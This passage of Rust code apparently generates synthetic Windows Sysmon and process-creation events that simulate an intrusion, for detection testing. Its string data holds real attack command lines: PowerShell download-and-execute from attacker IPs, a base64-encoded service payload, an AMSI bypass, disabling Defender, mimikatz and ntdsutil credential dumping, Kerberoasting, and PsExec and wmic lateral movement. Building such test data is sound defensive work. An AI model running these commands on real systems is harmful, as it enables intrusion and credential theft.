            19 => Some(
                Proc::windows(&sys32("cmd.exe"), "Cmd.Exe", "Windows Command Processor")
                    .cmd(
                        "cmd.exe /c powershell -w hidden -c \"Start-BitsTransfer \
                         -Source http://91.215.85.142/a.png -Destination $env:TEMP\\a.exe; \
                         & $env:TEMP\\a.exe\""
                            .to_owned(),
                    )
                    .parent(
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" /dde",
                    )
                    .run_by(user),
            ),
            20 => {
                let target = self.hosts[self.rng.below(48)].ip.clone();
                Some(
                    Proc::windows(
                        &sys32("wbem\\WMIC.exe"),
                        "wmic.exe",
                        "WMI Commandline Utility",
                    )
                    .cmd(format!(
                        "wmic /node:{target} process call create \
                             \"cmd.exe /c C:\\Users\\Public\\{}.exe\"",
                        self.rng.pick(PAYLOAD_NAMES)
                    ))
                    .parent(cmd_parent.0, cmd_parent.1)
                    .elevated(user),
                )
            }
            21 => Some(
                Proc::windows(&sys32("net.exe"), "net.exe", "Net Command")
                    .cmd("net  group \"Domain Admins\" /domain".to_owned())
                    .parent(cmd_parent.0, cmd_parent.1)
                    .run_by(user),
            ),
            22 => Some(
                Proc::windows(&sys32("ntdsutil.exe"), "ntdsutil.exe", "NT5DS")
                    .cmd(
                        "ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full c:\\temp\\ntds\" q q"
                            .to_owned(),
                    )
                    .parent(cmd_parent.0, cmd_parent.1)
                    .elevated(user),
            ),
            23 => Some(
                Proc::windows(&sys32("netsh.exe"), "netsh.exe", "Network Command Shell")
                    .cmd(
                        "netsh  advfirewall firewall add rule name=\"RDP\" dir=in action=allow \
                         protocol=TCP localport=3389"
                            .to_owned(),
                    )
                    .parent(cmd_parent.0, cmd_parent.1)
                    .elevated(user),
            ),
            24 => Some(
                Proc::app(
                    format!("{home}\\Downloads\\mimikatz.exe"),
                    "mimikatz.exe",
                    "mimikatz for Windows",
                    "mimikatz",
                    "gentilkiwi (Benjamin DELPY)",
                )
                .version("2.2.0.0")
                .cmd(
                    "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit"
                        .to_owned(),
                )
                .parent(cmd_parent.0, cmd_parent.1)
                .elevated(user),
            ),
            25 => {
                let target = self.hosts[48 + self.rng.below(SERVERS.len())].name.clone();
                Some(
                    Proc::app(
                        "C:\\Users\\Public\\PsExec64.exe".to_owned(),
                        "psexec.c",
                        "Execute processes remotely",
                        "Sysinternals PsExec",
                        "Sysinternals - www.sysinternals.com",
                    )
                    .version("2.43")
                    .cmd(format!("PsExec64.exe \\\\{target} -s -accepteula cmd.exe"))
                    .parent(cmd_parent.0, cmd_parent.1)
                    .elevated(user),
                )
            }
            _ => None,
        };
        if let Some(p) = proc {
            // Some environments only collect Security 4688 process creation.
            return if self.rng.per_mille(200) {
                self.security_process_creation(host, &p)
            } else {
                self.process_creation(host, &p)
            };
        }
        let sid = user.sid.clone();
        let qualified = user.qualified();
        match kind {
            26 => {
                let name = *self
                    .rng
                    .pick(&["Updater", "OneDriveSync", "SecurityHealth"]);
                let payload = self.rng.pick(PAYLOAD_NAMES);
                let guid = self.rng.guid();
                let pid = self.pid();
                self.sysmon(13, host)
                    .n("Task", 13)
                    .s("EventType", "SetValue")
                    .s("ProcessGuid", guid)
                    .n("ProcessId", pid)
                    .s("Image", "C:\\Windows\\System32\\reg.exe")
                    .s(
                        "TargetObject",
                        format!(
                            "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{name}"
                        ),
                    )
                    .s("Details", format!("C:\\Users\\Public\\{payload}.exe"))
                    .s("User", qualified)
                    .done()
            }
            27 => {
                let guid = self.rng.guid();
                let pid = self.pid();
                self.sysmon(13, host)
                    .n("Task", 13)
                    .s("EventType", "SetValue")
                    .s("ProcessGuid", guid)
                    .n("ProcessId", pid)
                    .s("Image", "C:\\Windows\\System32\\reg.exe")
                    .s(
                        "TargetObject",
                        "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\\
                         UseLogonCredential",
                    )
                    .s("Details", "DWORD (0x00000001)")
                    .s("User", qualified)
                    .done()
            }
            28 => {
                let guid = self.rng.guid();
                let pid = self.pid();
                let value = *self.rng.pick(&[
                    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
                    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\\
                     DisableRealtimeMonitoring",
                ]);
                self.sysmon(13, host)
                    .n("Task", 13)
                    .s("EventType", "SetValue")
                    .s("ProcessGuid", guid)
                    .n("ProcessId", pid)
                    .s(
                        "Image",
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    )
                    .s("TargetObject", value)
                    .s("Details", "DWORD (0x00000001)")
                    .s("User", qualified)
                    .done()
            }
            29 => {
                let guid = self.rng.guid();
                let pid = self.pid();
                let (image, target) = if self.rng.below(2) == 0 {
                    (
                        "C:\\Windows\\System32\\rundll32.exe".to_owned(),
                        format!("C:\\Windows\\Temp\\{}.dmp", self.rng.letters(6)),
                    )
                } else {
                    (
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".to_owned(),
                        format!(
                            "{home}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\\
                             Startup\\{}.vbs",
                            self.rng.pick(PAYLOAD_NAMES)
                        ),
                    )
                };
                let (utc, _) = self.timestamps();
                self.sysmon(11, host)
                    .n("Task", 11)
                    .s("ProcessGuid", guid)
                    .n("ProcessId", pid)
                    .s("Image", image)
                    .s("TargetFilename", target)
                    .s("CreationUtcTime", utc)
                    .s("User", qualified)
                    .done()
            }
            30 => {
                let guid = self.rng.guid();
                let pid = self.pid();
                let name = format!(
                    "{}-{}.{}",
                    self.rng.word(8),
                    self.rng.between(10, 250),
                    self.rng
                        .pick(&["ngrok-free.app", "ngrok.io", "trycloudflare.com"])
                );
                self.sysmon(22, host)
                    .n("Task", 22)
                    .s("ProcessGuid", guid)
                    .n("ProcessId", pid)
                    .s("QueryName", name)
                    .s("QueryStatus", "0")
                    .s("QueryResults", "::ffff:3.125.102.39;")
                    .s(
                        "Image",
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    )
                    .s("User", qualified)
                    .done()
            }
            31 => {
                let guid = self.rng.guid();
                let pid = self.pid();
                let image = *self.rng.pick(&[
                    "C:\\Windows\\System32\\rundll32.exe",
                    "C:\\Windows\\System32\\regsvr32.exe",
                    "C:\\Windows\\System32\\mshta.exe",
                    "C:\\Windows\\System32\\certutil.exe",
                ]);
                let dest = *self.rng.pick(ATTACKER_IPS);
                let dest_port = *self.rng.pick(&[4444u64, 8080, 443, 1337]);
                let src_ip = self.hosts[host].ip.clone();
                let src_port = self.rng.between(49_152, 65_535);
                self.sysmon(3, host)
                    .n("Task", 3)
                    .s("ProcessGuid", guid)
                    .n("ProcessId", pid)
                    .s("Image", image)
                    .s("User", qualified)
                    .s("Protocol", "tcp")
                    .s("Initiated", "true")
                    .s("SourceIsIpv6", "false")
                    .s("SourceIp", src_ip)
                    .n("SourcePort", src_port)
                    .s("DestinationIsIpv6", "false")
                    .s("DestinationIp", dest)
                    .n("DestinationPort", dest_port)
                    .done()
            }
            32 => {
                let text = match self.rng.below(4) {
                    0 => "Invoke-Mimikatz -DumpCreds".to_owned(),
                    1 => "Add-MpPreference -ExclusionPath 'C:\\Users\\Public' -Force; \
                         Set-MpPreference -DisableRealtimeMonitoring $true"
                        .to_owned(),
                    2 => "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')\
                         .GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"
                        .to_owned(),
                    _ => {
                        let (url, _) = self.attacker_url("ps1");
                        format!(
                            "IEX (New-Object Net.WebClient).DownloadString('{url}'); \
                             Invoke-Kerberoast -OutputFormat Hashcat"
                        )
                    }
                };
                let id = self.rng.guid();
                self.script_block(host, text, id, String::new())
            }
            _ => {
                let name = self.rng.letters(8).to_ascii_uppercase();
                let payload = format!(
                    "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -c \
                     \"IEX ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{}')))\"",
                    base64(
                        format!(
                            "(New-Object Net.WebClient).DownloadString('http://{}/a')",
                            self.rng.pick(ATTACKER_IPS)
                        )
                        .as_bytes()
                    )
                );
                self.system_service(host, &name, &payload, "demand start", "LocalSystem")
            }
        }
    }
}
